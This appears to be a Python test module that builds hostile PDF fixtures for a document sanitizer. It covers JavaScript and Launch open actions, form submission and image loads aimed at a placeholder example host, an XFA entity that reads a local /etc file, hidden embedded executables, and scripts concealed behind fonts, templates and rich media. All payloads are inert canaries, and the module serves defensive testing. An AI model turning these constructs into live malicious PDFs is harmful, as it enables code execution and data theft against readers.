"""Papers that would run something, open something or carry something along: taken, and cleaned."""

from __future__ import annotations

from typing import Final

from tests.corpus.parts import (
    CANARY,
    DRAWING,
    Hostile,
    catalog,
    page,
    stream,
    tree,
    two_pages,
    written,
)

SCRIPT: Final = f"<< /S /JavaScript /JS (app.alert\\('{CANARY}'\\)) >>"
LAUNCH: Final = f"<< /S /Launch /F ({CANARY}.exe) /Win << /F ({CANARY}.exe) /P (/c {CANARY}) >> >>"
REMOTE: Final = f"<< /S /GoToR /F ({CANARY}.pdf) /D [0 /Fit] >>"
EMBEDDED: Final = f"<< /S /GoToE /F ({CANARY}.pdf) /T << /R /C /N ({CANARY}) >> /D [0 /Fit] >>"
SUBMIT: Final = f"<< /S /SubmitForm /F << /FS /URL /F (https://{CANARY}.example/) >> /Fields [] >>"
IMPORT: Final = f"<< /S /ImportData /F ({CANARY}.fdf) >>"
FETCH: Final = f"<< /S /URI /URI (javascript:{CANARY}) >>"
RENDITION: Final = f"<< /S /Rendition /JS ({CANARY}) /OP 0 >>"
CHAIN: Final = f"<< /S /GoTo /D [4 0 R /Fit] /Next [<< /S /Named /N /Print >> {SCRIPT}] >>"
ACTIONS: Final = (SCRIPT, LAUNCH, REMOTE, EMBEDDED, SUBMIT, IMPORT, FETCH, RENDITION, CHAIN)
LOOK: Final = stream(
    b"0.5 g 0 0 40 20 re f", "/Type /XObject /Subtype /Form /BBox [0 0 40 20] /Matrix [1 0 0 1 0 0]"
)


def opens_with(action: str) -> bytes:
    """Return a paper that does ``action`` when it is opened."""
    return written(two_pages(root=f"/OpenAction {action}"))


def at_every_level() -> bytes:
    """Return additional actions of the catalog, of pages, fields, notes and outline entries."""
    more = f"/AA << /WC {SCRIPT} /O {LAUNCH} /E {SCRIPT} /K {SCRIPT} >>"
    note = f"<< /Type /Annot /Subtype /Widget /FT /Tx /T ({CANARY}) /Rect [72 72 90 90] {more} /AP << /N 9 0 R >> >>"
    outline = f"<< /Type /Outlines /First 8 0 R /Last 8 0 R /Count 1 {more} >>"
    entry = f"<< /Title (Part) /Parent 7 0 R /A {SCRIPT} {more} >>"
    root = (
        f"{more} /Outlines 7 0 R /AcroForm << /Fields [6 0 R] /CO [6 0 R] /XFA ({CANARY}) {more} >>"
    )
    return written(
        two_pages(
            note.encode(),
            outline.encode(),
            entry.encode(),
            LOOK,
            root=root,
            page_more=f"{more} /Annots [6 0 R]",
        )
    )


def notes(*kinds: str, more: str = "", root: str = "") -> bytes:
    """Return a paper with one annotation of each kind on both pages."""
    written_notes = [
        f"<< /Type /Annot /Subtype /{kind} /Rect [72 {72 + 30 * i} 112 {92 + 30 * i}] /T ({CANARY}) "
        f"/Contents ({CANARY}) /NM ({CANARY}) {more} >>".encode()
        for i, kind in enumerate(kinds)
    ]
    listed = " ".join(f"{6 + i} 0 R" for i in range(len(kinds)))
    carried = stream(CANARY.encode(), "/Type /EmbeddedFile")
    last = 6 + len(kinds)
    return written(
        two_pages(*written_notes, carried, LOOK, root=root, page_more=f"/Annots [{listed}]")
    ).replace(b"@FILE", b"%d" % last).replace(b"@LOOK", b"%d" % (last + 1))  # fmt: skip


def links(*actions: str) -> bytes:
    """Return a paper with a link for each action."""
    written_links = [
        f"<< /Type /Annot /Subtype /Link /Rect [72 {72 + 20 * i} 90 {90 + 20 * i}] /Border [0 0 0] /A {action} >>".encode()
        for i, action in enumerate(actions)
    ]
    listed = " ".join(f"{6 + i} 0 R" for i in range(len(actions)))
    return written(two_pages(*written_links, page_more=f"/Annots [{listed}]"))


def named_script() -> bytes:
    """Return scripts in the tree of names, on two storeys."""
    names = "/Names << /JavaScript << /Kids [6 0 R] >> >>"
    return written(two_pages(f"<< /Names [({CANARY}) {SCRIPT}] >>".encode(), root=names))


def carried_files() -> bytes:
    """Return a file in the tree of names, and associated files everywhere."""
    spec = f"<< /Type /Filespec /F ({CANARY}.exe) /UF ({CANARY}.exe) /Desc ({CANARY}) /EF << /F 7 0 R >> >>"
    root = f"/Names << /EmbeddedFiles << /Names [({CANARY}) 6 0 R] >> >> /AF [6 0 R] /Collection << /D ({CANARY}) >>"
    data = stream(CANARY.encode(), "/Type /EmbeddedFile /Subtype /application#2Foctet-stream")
    return written(two_pages(spec.encode(), data, root=root, page_more="/AF [6 0 R]"))


def office_inside() -> bytes:
    """Return a paper that carries its source behind the trailer, as some programs write it."""
    data = stream(f"PK {CANARY}".encode())
    return written(
        two_pages(data),
        trailer=f"/AdditionalStreams [/application#2Fodt 6 0 R] /DocChecksum /{CANARY}",
    )


def xfa() -> bytes:
    """Return an XFA form that asks for a file of this machine."""
    form = f'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/{CANARY}">]><xdp>&e;</xdp>'.encode()
    return written(
        two_pages(stream(form), root="/AcroForm << /Fields [] /XFA 6 0 R /NeedAppearances true >>")
    )


def fields() -> bytes:
    """Return a form with scripts, a signature and a button that submits."""
    script = f"/AA << /F {SCRIPT} /C {SCRIPT} >>"
    parts = [
        (
            f"<< /Type /Annot /Subtype /Widget /FT /Tx /T ({CANARY}) /V ({CANARY}) /DV ({CANARY}) /TU ({CANARY}) "
            f"/Rect [72 72 112 92] /F 4 /AP << /N 9 0 R >> {script} >>"
        ),
        (
            f"<< /Type /Annot /Subtype /Widget /FT /Btn /T (b) /Rect [72 112 112 132] /F 4 /AS /On /A {SUBMIT} "
            "/AP << /N << /On 9 0 R /Off 9 0 R >> >> >>"
        ),
        (
            f"<< /Type /Annot /Subtype /Widget /FT /Sig /T (s) /Rect [72 152 112 172] /V << /Type /Sig /Name ({CANARY}) "
            f"/Contents ({CANARY}) /Reason ({CANARY}) >> >>"
        ),
    ]
    root = f"/AcroForm << /Fields [6 0 R 7 0 R 8 0 R] /SigFlags 3 /DA ({CANARY}) >> /Perms << /DocMDP << /Name ({CANARY}) >> >>"
    return written(
        two_pages(
            *(part.encode() for part in parts),
            LOOK,
            root=root,
            page_more="/Annots [6 0 R 7 0 R 8 0 R]",
        )
    )


def behind_the_structure() -> bytes:
    """Return an attached file that only an element of the structure tells of."""
    root = "/StructTreeRoot 6 0 R /MarkInfo << /Marked true >>"
    note = f"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS << /Type /Filespec /F ({CANARY}) /EF << /F 9 0 R >> >> >>"
    return written(
        two_pages(
            b"<< /Type /StructTreeRoot /K 7 0 R >>",
            b"<< /Type /StructElem /S /Annot /P 6 0 R /K << /Type /OBJR /Obj 8 0 R /Pg 4 0 R >> >>",
            note.encode(),
            stream(CANARY.encode(), "/Type /EmbeddedFile"),
            root=root,
        )
    )


def behind_a_resource() -> bytes:
    """Return a script that a font's name and a link's action both lead to."""
    link = b"<< /Type /Annot /Subtype /Link /Rect [72 72 90 90] /A 6 0 R >>"
    more = "/Resources << /Font << /JS 6 0 R >> /Properties << /AA << /JS 6 0 R >> >> >> /Annots [7 0 R]"
    return written(two_pages(SCRIPT.encode(), link, page_more=more))


def outside_picture() -> bytes:
    """Return a picture and a form whose bytes would come from the network."""
    keys = f"/F << /FS /URL /F (https://{CANARY}.example/) >> /FFilter /DCTDecode"
    image = stream(
        b"\0" * 3,
        f"/Type /XObject /Subtype /Image /Width 1 /Height 1 /BitsPerComponent 8 /ColorSpace /DeviceRGB {keys}",
    )
    form = stream(
        b"",
        f"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Ref << /F ({CANARY}) /Page 0 >> /OPI << /F ({CANARY}) >>",
    )
    script = stream(f"({CANARY}) run".encode(), "/Type /XObject /Subtype /PS")
    more = "/Resources << /XObject << /X 6 0 R /Y 7 0 R /Z 8 0 R >> >>"
    return written(two_pages(image, form, script, drawing=stream(b"/X Do /Y Do"), page_more=more))


def presented() -> bytes:
    """Return pages that turn by themselves, with viewports, threads and requirements."""
    root = f"/URI << /Base (https://{CANARY}.example/) >> /Threads [<< /I << /Title ({CANARY}) >> >>] /Requirements [<< /S /EnableJavaScripts >>] /PageMode /FullScreen"
    more = f"/Dur 1 /Trans << /S /Fly >> /VP [<< /Name ({CANARY}) /BBox [0 0 9 9] >>] /PresSteps << /NA {SCRIPT} >>"
    return written(two_pages(root=root, page_more=more))


def hidden_pages() -> bytes:
    """Return templates and page pieces that no reader shows."""
    names = (
        f"/Names << /Templates << /Names [({CANARY}) 6 0 R] >> /Pages << /Names [(p) 6 0 R] >> >>"
    )
    template = page(f"/AA << /O {SCRIPT} >>").replace(b"/Type /Page ", b"/Type /Template ")
    return written([catalog(names), tree((4, 5), 2), DRAWING, page(), page(), template])


MEDIA: Final = (
    f"/RichMediaContent << /Assets << /Names [({CANARY}) << /EF << /F @FILE 0 R >> >>] >> >> "
    f"/RichMediaSettings << /Activation << /Condition /PO /Scripts [<< /EF << /F @FILE 0 R >> >>] >> >> "
    f"/Movie << /F ({CANARY}) >> /Sound << /F ({CANARY}) /R 9 >> /3DD << /Type /3D /OnInstantiate {SCRIPT} >> "
    f"/A {RENDITION} /FS << /Type /Filespec /F ({CANARY}) /EF << /F @FILE 0 R >> >> /AP << /N @LOOK 0 R >> "
    f"/Popup @LOOK 0 R /RC (<p>{CANARY}</p>) /Subj ({CANARY})"
)

CASES: Final = (
    *(Hostile(f"opens with action {i}", lambda deed=deed: opens_with(deed)) for i, deed in enumerate(ACTIONS, 1)),  # type: ignore[misc]
    Hostile("additional actions at every level", at_every_level),
    Hostile("links that do more than lead", lambda: links(*ACTIONS)),
    Hostile("scripts by name", named_script),
    Hostile("files carried along", carried_files),
    Hostile("its source behind the trailer", office_inside),
    Hostile("XFA that asks for a file", xfa),
    Hostile("form with scripts and a signature", fields),
    Hostile("file behind the structure", behind_the_structure),
    Hostile("script behind a font's name", behind_a_resource),
    Hostile("picture from the network", outside_picture),
    Hostile("turns its own pages", presented),
    Hostile("pages nobody shows", hidden_pages),
    Hostile("attached file", lambda: notes("FileAttachment", more=MEDIA)),
    Hostile("film, sound and screen", lambda: notes("Movie", "Sound", "Screen", more=MEDIA)),
    Hostile("rich media and three dimensions", lambda: notes("RichMedia", "3D", more=MEDIA)),
    Hostile("notes of an unknown kind", lambda: notes("Odd", "Projection", "TrapNet", more=MEDIA)),
)  # fmt: skip
